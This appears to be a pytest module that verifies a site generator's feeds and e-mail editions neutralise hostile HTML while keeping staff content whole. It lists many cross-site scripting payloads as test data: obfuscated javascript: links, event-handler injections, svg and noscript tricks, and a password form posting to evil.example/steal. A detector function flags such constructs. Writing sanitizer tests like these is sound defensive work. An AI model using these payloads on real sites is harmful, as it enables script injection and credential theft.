"""What leaves the site in feeds and e-mail runs nothing, and still says all the author wrote.

An attacker's body (attributes holding ` src=` and ` href=`, quotes of both kinds, script addresses in
every disguise, scripts, handlers, frames, styles, data: pictures) and summaries full of markup go into
every type; RSS, Atom and JSON Feed are read as a feed reader reads them (feedparser, with its own
cleaning off, and an HTML parser) and the e-mail edition as a mail client does. A staff member's body
with pictures, a table, a quote and links keeps all of it, with absolute addresses.
"""

from __future__ import annotations

import datetime as dt
import html
import json
import shutil
import textwrap
from collections.abc import Iterator
from pathlib import Path

import feedparser
import lxml.html
import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree
from payload_site import PAYLOAD, build_source
from sitebuild import REPO, examplia_copy, mistakes, mkdocs_build, network_site, site_settings
from test_feeds import FILES as FEED_FILES

from generator.content import body_html
from generator.content.loading import load_site
from generator.graph.site import Site
from generator.outputs.email_edition import email_files
from generator.outputs.feeds import feeds_for, render_all
from generator.outputs.images import ResponsiveImages

TEMPLATES = REPO / "templates" / "email"
ATOM = "{http://www.w3.org/2005/Atom}"
# Texts an author may give a picture or a link as its alt text or title: each once broke out of its attribute.
ATTRIBUTE_TEXTS = (
    "x src=y onerror=alert(1)//",
    "x href=javascript:alert(2) y",
    'a " src=x onerror=alert(3) b',
    "a ' href=x onmouseover=alert(4) b",
    "both \" and ' > <script>alert(5)</script> src=javascript:alert(6)",
    "x\tsrc='javascript:alert(7)' href=\"javascript:alert(8)\"",
)
# Script addresses as written in HTML: mixed case, entities, whitespace, other schemes.
SCRIPT_HREFS = (
    "javascript:alert(11)",
    "JaVaScRiPt:alert(12)",
    " javascript:alert(13)",
    "java&#x09;script:alert(14)",
    "jav&#x61;script:alert(15)",
    "&#106;avascript:alert(16)",
    "javascript&colon;alert(17)",
    "java&NewLine;script:alert(18)",
    "&#x01;javascript:alert(19)",
    "vbscript:msgbox(20)",
    "VBScript:msgbox(21)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgyMik8L3NjcmlwdD4=",
    "data:text/html,&lt;script&gt;alert(23)&lt;/script&gt;",
)
# What runs in a reader that shows HTML as it is given.
HOSTILE_ELEMENTS = (
    "<script>alert(31)</script>",
    '<p onclick="alert(32)">click</p>',
    '<img src="images/photo.jpg" alt="hurt" onerror="alert(33)">',
    '<svg onload="alert(34)"><circle r="1"/><a href="javascript:alert(40)"><text>t</text></a>'
    '<animate attributeName="href" values="javascript:alert(41)"/><use href="data:image/svg+xml,x"/></svg>',
    '<iframe src="https://evil.example/frame"></iframe>',
    "<style>body { display: none }</style>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMzUpPjwvc3ZnPg==" alt="a data picture">',
    '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>',
    '<object data="https://evil.example/movie.swf"></object><embed src="javascript:alert(36)">',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(37)">m</maction></math>',
    '<a href="https://example.org/" style="position:fixed;top:0">cover</a>',
    "<!--><script>alert(38)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(39)>"></p></noscript>',
)


def hostile_body() -> str:
    """A body as MkDocs could have rendered an attacker's file (raw HTML is kept as it was written)."""
    parts = [f'<p><img src="images/photo.jpg" alt="{html.escape(text)}"></p>' for text in ATTRIBUTE_TEXTS]
    parts += [f'<p><a href="about.md" title="{html.escape(text)}">about</a></p>' for text in ATTRIBUTE_TEXTS]
    parts += [f'<p><a href="{href}">link {number}</a></p>' for number, href in enumerate(SCRIPT_HREFS)]
    parts += [f'<p><img src="{href}" alt="picture {number}"></p>' for number, href in enumerate(SCRIPT_HREFS)]
    parts += [f'<p><img src="photo.jpg" srcset="{href} 2x" alt="set {n}"></p>' for n, href in enumerate(SCRIPT_HREFS)]
    parts += list(HOSTILE_ELEMENTS)
    return "\n".join(parts)


def squashed(value: str) -> str:
    """An address as a browser reads its scheme: no control characters or spaces, lower case."""
    return "".join(char for char in value if ord(char) > 0x20).lower()


def dangers(fragment: str, styles: bool = True) -> list[str]:
    """Whatever in HTML would run a script, load a frame or restyle the reader, as an HTML parser reads it.

    `styles=False` for the e-mail edition, whose own style sheet is inlined into style attributes.
    """
    if not fragment.strip():
        return []
    root = lxml.html.fragment_fromstring(fragment, create_parent="div")
    found = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.rpartition("}")[2].lower()
        if tag in {"script", "style", "iframe", "frame", "object", "embed", "math", "form", "input", "base", "use",
                   "animate", "set", "foreignobject"}:
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            name = str(name).lower()
            if name.startswith("on") or (styles and name == "style"):
                found.append(f"{tag} {name}={value}")
            candidates = str(value).split(",") if name == "srcset" else [str(value)]
            if any(squashed(c).startswith(("javascript:", "vbscript:", "data:")) for c in candidates):
                found.append(f"{tag} {name}={value}")
    return found


def carries_each_text(fragment: str, texts: tuple[str, ...] = ATTRIBUTE_TEXTS) -> None:
    """Every hostile alt text and title reaches the reader whole, in its own attribute."""
    root = lxml.html.fragment_fromstring(fragment, create_parent="div")
    alts = {str(value) for value in root.xpath("//img/@alt")}
    titles = {str(value) for value in root.xpath("//a/@title")}
    for text in texts:
        assert text in alts, (text, alts)
        assert text in titles, (text, titles)


def feed_contents(files: dict[str, bytes]) -> Iterator[tuple[str, str]]:
    """Each entry's HTML content in every feed, as a reader that does no cleaning of its own gets it."""
    for path, data in sorted(files.items()):
        if path.endswith((".xml",)):
            parsed = feedparser.parse(data, sanitize_html=False)
            assert not parsed.bozo, (path, parsed.get("bozo_exception"))
            for entry in parsed.entries:
                for content in entry.get("content", []):
                    yield path, content.value
                yield path, entry.summary
        elif path.endswith(".json"):
            for item in json.loads(data)["items"]:
                yield path, item["content_html"]


def email_introductions(files: dict[str, bytes]) -> Iterator[tuple[str, str]]:
    """Each e-mail edition's introduction (the bulletin's body), as a mail client reads it."""
    for path, data in sorted(files.items()):
        if path.endswith("email.html"):
            document = lxml.html.document_fromstring(data)
            assert not dangers(lxml.html.tostring(document.body, encoding="unicode"), styles=False), path
            assert "position:fixed" not in data.decode("utf-8").replace(" ", ""), path
            cell = document.xpath('//td[contains(concat(" ", @class, " "), " pad ")]')[0]
            inner = (cell.text or "") + "".join(lxml.html.tostring(child, encoding="unicode") for child in cell)
            yield path, inner


FILES = {
    **FEED_FILES,
    "bulletins/2024-03.md": """
        title: March in the network
        summary: The dialogue and the forum.
        number: 1
        date: 2024-03
        items: [news/dialogue, events/forum]
        """,
}
STAFF_BODY = """\
## What was agreed

Partners agreed on [the forum's agenda](../events/forum.md#agenda), wrote to
[the secretariat](mailto:secretariat@example.org) and read [the IOM page](../organizations/iom.md).

![People around a table](../images/photo.jpg "The dialogue")

> Safe migration starts with information.

| Partner | Role |
| --- | ---: |
| IOM | Organizer |

<picture><source type="image/webp" srcset="../images/photo-640w.webp 640w, ../images/photo.webp 1280w">
<img src="../images/photo.jpg" alt="A second look"></picture>

See the [report](https://example.org/report.pdf).
"""


def write_content(root: Path, body: str = "Body.\n") -> Path:
    content = root / "content"
    for rel, front in FILES.items():
        path = content / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"---\n{textwrap.dedent(front).strip()}\n---\n{body}", encoding="utf-8")
    (content / "about.md").write_text("---\ntitle: About\n---\nAbout us.\n", encoding="utf-8")
    (content / "images").mkdir(exist_ok=True)
    shutil.copyfile(REPO / "tests" / "fixtures" / "examplia" / "content" / "images" / "return-forum.jpg",
                    content / "images" / "photo.jpg")
    return content


@pytest.fixture(scope="module")
def payload_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A network whose every summary, title and option holds markup and script (tests/payload_site.py)."""
    config = build_source(tmp_path_factory.mktemp("payloads") / "network")
    return config.parent


@pytest.fixture(scope="module")
def payload_site(payload_project: Path) -> Site:
    return load_site(payload_project / "content", site_settings(payload_project))


def test_every_feed_and_e_mail_edition_of_an_attackers_bodies_runs_nothing_and_keeps_each_attribute_whole(
    payload_site: Site,
) -> None:
    bodies = {item.key: hostile_body() for item in payload_site.items}
    feeds = render_all(payload_site, bodies)
    contents = list(feed_contents(feeds))
    assert len({path for path, _ in contents}) == sum(1 for feed in feeds_for(payload_site) if feed.items) * 3
    for path, content in contents:
        assert not dangers(content), (path, dangers(content))
    bodies_seen = [content for _, content in contents if "about" in content]
    assert bodies_seen
    for content in bodies_seen:
        carries_each_text(content)
    editions = list(email_introductions(email_files(payload_site, bodies, TEMPLATES)))
    assert editions
    for path, fragment in editions:
        assert not dangers(fragment, styles=False), (path, dangers(fragment, styles=False))
        carries_each_text(fragment)


def test_a_script_address_leaves_the_link_text_readable_in_feeds_and_e_mail(payload_site: Site) -> None:
    bodies = {item.key: hostile_body() for item in payload_site.items}
    for _, content in feed_contents(render_all(payload_site, bodies)):
        if "link 0" in content:
            text = lxml.html.fragment_fromstring(content, create_parent="div").text_content()
            assert all(f"link {number}" in text for number in range(len(SCRIPT_HREFS)))


def test_channel_titles_and_descriptions_of_every_feed_read_as_the_text_staff_wrote(payload_site: Site) -> None:
    described = {feed.json_path: feed for feed in feeds_for(payload_site)}
    files = render_all(payload_site, {})
    assert any(PAYLOAD in feed.description for feed in described.values())
    for json_path, feed in described.items():
        base = json_path.removesuffix("feed.json")
        for name in ("feed.xml", "atom.xml"):
            parsed = feedparser.parse(files[base + name], sanitize_html=False)
            assert not parsed.bozo, (base + name, parsed.get("bozo_exception"))
            subtitle = parsed.feed.subtitle_detail
            # A reader shows text/html as a browser would: the markup staff typed must come back as text.
            shown = (lxml.html.fragment_fromstring(subtitle.value, create_parent="div").text_content()
                     if subtitle.type == "text/html" else subtitle.value)
            assert shown == (feed.description or feed.title), (base + name, subtitle)
            if subtitle.type == "text/html":
                assert not dangers(subtitle.value)
            assert parsed.feed.title == feed.title
        document = json.loads(files[json_path])
        assert document["title"] == feed.title and document["description"] == (feed.description or feed.title)


def test_twg_and_organization_feeds_say_their_summary_as_escaped_as_their_items_summaries(payload_site: Site) -> None:
    files = render_all(payload_site, {})
    for followed in (*payload_site.of_kind("twgs"), *payload_site.of_kind("organizations")):
        rss = etree.fromstring(files[followed.url + "feed.xml"])
        channel = rss.find("channel")
        assert channel is not None
        # RSS readers read a description as HTML: staff's '<b>' must reach them as '&lt;b&gt;'.
        assert channel.findtext("description") == html.escape(followed.summary, quote=False)
        for item in channel.iterfind("item"):
            assert "<" not in (item.findtext("description") or "")


def test_an_ordinary_body_keeps_its_pictures_table_quote_and_links_with_absolute_addresses(tmp_path: Path) -> None:
    content = write_content(tmp_path, STAFF_BODY)
    settings = site_settings(REPO, now=dt.datetime(2024, 6, 1, tzinfo=dt.UTC))
    site = load_site(content, settings)
    root = settings.site_url.rstrip("/") + "/"
    feeds = render_all(site, {})
    entries = [c for path, c in feed_contents(feeds) if path in {"feed.xml", "atom.xml", "feed.json"} and "agreed" in c]
    assert len(entries) == 3 * len(feeds_for(site)[0].items)  # every item of the site's feed, in each format
    editions = [fragment for _, fragment in email_introductions(email_files(site, {}, TEMPLATES))]
    assert len(editions) == 1
    for fragment in [*entries, *editions]:
        document = lxml.html.fragment_fromstring(fragment, create_parent="div")
        assert document.xpath("//h2")[0].text_content() == "What was agreed"  # no '¶'
        assert "Safe migration starts with information." in document.xpath("//blockquote")[0].text_content()
        cells = [cell.text_content() for cell in document.xpath("//table//th | //table//td")]
        assert cells == ["Partner", "Role", "IOM", "Organizer"]
        assert "text-align:right" in document.xpath("//td")[1].get("style", "").replace(" ", "")
        links = {a.text_content(): a.get("href") for a in document.xpath("//a")}
        assert links["the forum's agenda"] == f"{root}events/forum/#agenda"
        assert links["the IOM page"] == f"{root}organizations/iom/"
        assert links["the secretariat"] == "mailto:secretariat@example.org"
        assert links["report"] == "https://example.org/report.pdf"
        pictures = {img.get("alt"): img for img in document.xpath("//img")}
        assert pictures["People around a table"].get("src") == f"{root}images/photo.jpg"
        assert pictures["People around a table"].get("title") == "The dialogue"
        assert pictures["A second look"].get("src") == f"{root}images/photo.jpg"
        srcset = document.xpath("//picture/source/@srcset")[0]
        assert srcset == f"{root}images/photo-640w.webp 640w, {root}images/photo.webp 1280w"
        assert not dangers(fragment, styles=False)


@pytest.mark.parametrize("written", [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](jav&#x61;script:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,hi)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java&#x09;script:alert(1)">x</a>',
    '<a title="ok" href="&#106;avascript:alert(1)">x</a>',
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<area href="vbscript:msgbox(1)">',
])
def test_a_script_link_in_a_body_is_a_mistake_check_and_the_build_name_alike(tmp_path: Path, written: str) -> None:
    config = examplia_copy(tmp_path / "network")
    news = config.parent / "content" / "news" / "update-1.md"
    news.write_text(news.read_text(encoding="utf-8") + f"\nRead this.\n\n{written}\n", encoding="utf-8")
    line = news.read_text(encoding="utf-8").splitlines().index(written.splitlines()[-1]) + 1
    checked = network_site(config, "check")
    built = mkdocs_build(config, tmp_path / "site")
    assert checked.returncode != 0 and built.returncode != 0
    said = mistakes(checked.stdout + checked.stderr)
    assert said == mistakes(built.stdout + built.stderr)
    assert len(said) == 1
    (mistake,) = said
    assert f"content/news/update-1.md:{line}: body: expected a link to a web page" in mistake, mistake


def test_a_script_address_shown_as_code_is_no_mistake(tmp_path: Path) -> None:
    config = examplia_copy(tmp_path / "network")
    news = config.parent / "content" / "news" / "update-1.md"
    code = '\nNever write `<a href="javascript:alert(1)">` or this:\n\n```html\n<a href="javascript:x()">x</a>\n```\n'
    news.write_text(news.read_text(encoding="utf-8") + code, encoding="utf-8")
    checked = network_site(config, "check")
    assert checked.returncode == 0, checked.stdout + checked.stderr


@pytest.mark.parametrize("href", SCRIPT_HREFS)
def test_a_script_link_that_reaches_a_page_is_never_clickable_and_keeps_its_text_and_other_attributes(
    href: str,
) -> None:
    body = f'<p>Before <a class="x" href="{href}" title="it&#39;s &quot;here&quot;">the link</a> after.</p>\n<br />'
    shown = body_html.without_script_links(body)
    document = lxml.html.fragment_fromstring(shown, create_parent="div")
    (link,) = document.xpath("//a")
    assert link.get("href") is None
    assert link.text_content() == "the link" and link.get("class") == "x" and link.get("title") == "it's \"here\""
    assert document.text_content().strip() == "Before the link after."
    assert shown.endswith("</a> after.</p>\n<br />")  # the rest of the body is as the author wrote it


def test_a_page_keeps_its_ordinary_links_byte_for_byte() -> None:
    body = '<p><a href="https://example.org/?a=1&amp;b=2" title=\'q\'>x</a> <a href="#top">top</a></p>'
    assert body_html.without_script_links(body) == body


def test_a_body_picture_whose_alt_text_looks_like_a_tag_becomes_one_picture_with_the_alt_text_whole(
    tmp_path: Path,
) -> None:
    content = write_content(tmp_path)
    images = ResponsiveImages(content)
    alt = 'a <img src="images/photo.jpg"> " src=x onerror=alert(1) \' >'
    shown_as_code = '<!-- <img src="../../images/photo.jpg"> --><pre>&lt;img src="../../images/photo.jpg"&gt;</pre>'
    body = f'<p><img alt="{html.escape(alt)}" src="../../images/photo.jpg"></p>{shown_as_code}'
    rewritten, errors = images.rewrite(body, "news/dialogue/", None)
    assert not errors
    document = lxml.html.fragment_fromstring(rewritten, create_parent="div")
    (picture,) = document.xpath("//picture")
    assert [img.get("alt") for img in document.xpath("//img")] == [alt]
    assert not dangers(lxml.html.tostring(picture, encoding="unicode"))
    assert rewritten.endswith(shown_as_code)


def test_a_built_site_carries_an_attackers_markdown_to_every_feed_harmless_and_keeps_it_whole_on_its_page(
    tmp_path: Path,
) -> None:
    config = examplia_copy(tmp_path / "network")
    news = config.parent / "content" / "news" / "update-1.md"
    texts = tuple(text for text in ATTRIBUTE_TEXTS if "\t" not in text)  # Markdown turns tabs into spaces
    written = [f"![{text}](../images/return-forum.jpg)" for text in texts[:2]]
    written += [f'[about](../about.md "{text}")' for text in texts[:2]]
    written += [f'<img src="../../images/return-forum.jpg" alt="{html.escape(text)}">' for text in texts]
    written += [f'<a href="../../about/" title="{html.escape(text)}">about</a>' for text in texts]
    # A script address is a mistake the build stops at (tested above): every other attack is here.
    written += [element for element in HOSTILE_ELEMENTS if "javascript:" not in element]
    news.write_text(news.read_text(encoding="utf-8") + "\n" + "\n\n".join(written) + "\n", encoding="utf-8")
    site = tmp_path / "site"
    built = mkdocs_build(config, site)
    assert built.returncode == 0, built.stderr
    feeds = {str(path.relative_to(site)): path.read_bytes()
             for name in ("feed.xml", "atom.xml", "feed.json") for path in site.rglob(name)}
    carrying = [content for _, content in feed_contents(feeds) if "about" in content]
    assert len(carrying) >= 3 * 4  # the site's, the news', the TWG's and the organization's feeds at least
    for content in carrying:
        assert not dangers(content), dangers(content)
        carries_each_text(content, texts)
    page = lxml.html.parse(str(site / "news" / "update-1" / "index.html")).getroot()
    article = page.xpath("//article")[0]
    assert {str(v) for v in article.xpath(".//img/@alt")} >= set(texts)
    assert {str(v) for v in article.xpath(".//a/@title")} >= set(texts)
    hostile_pictures = [img for img in article.xpath(".//img") if img.get("alt") in texts]
    assert len(hostile_pictures) == 2 + len(texts)
    assert all(img.xpath("ancestor::picture") for img in hostile_pictures)  # each local photo, responsive


# Pieces of a body that come near a script address: its letters in either case, white space of every kind, colons,
# and the character references that hide a letter, a colon or a break.
_NEAR_A_SCRIPT_ADDRESS = st.lists(st.sampled_from([
    *"scriptdaSCRIPTDAjv:&#;x", "\u0130", "\u212a", " ", "\t", "\n", "\r", "\u00a0", "\u2028", "\u3000",
    "colon", "Tab", "NewLine", "&#58;", "&Tab;", "script", "data", "script:", "da\tta:", "Java Script:", "https://a.example/",
]), max_size=40).map("".join)


@given(_NEAR_A_SCRIPT_ADDRESS)
def test_the_quick_look_for_a_script_address_misses_none_that_the_text_without_its_white_space_holds(
    body: str,
) -> None:
    """A body the quick look passes is never parsed: it must say True wherever, lower-cased and without white space,
    the text holds 'script:' or 'data:', or wherever a character reference could hide one."""
    lowered = body.lower()
    squeezed = "".join(lowered.split())
    holds = ("&#" in lowered or any(name in lowered for name in ("&colon", "&tab", "&newline"))
             or "script:" in squeezed or "data:" in squeezed)
    assert body_html.may_hold_script_address(body) == holds
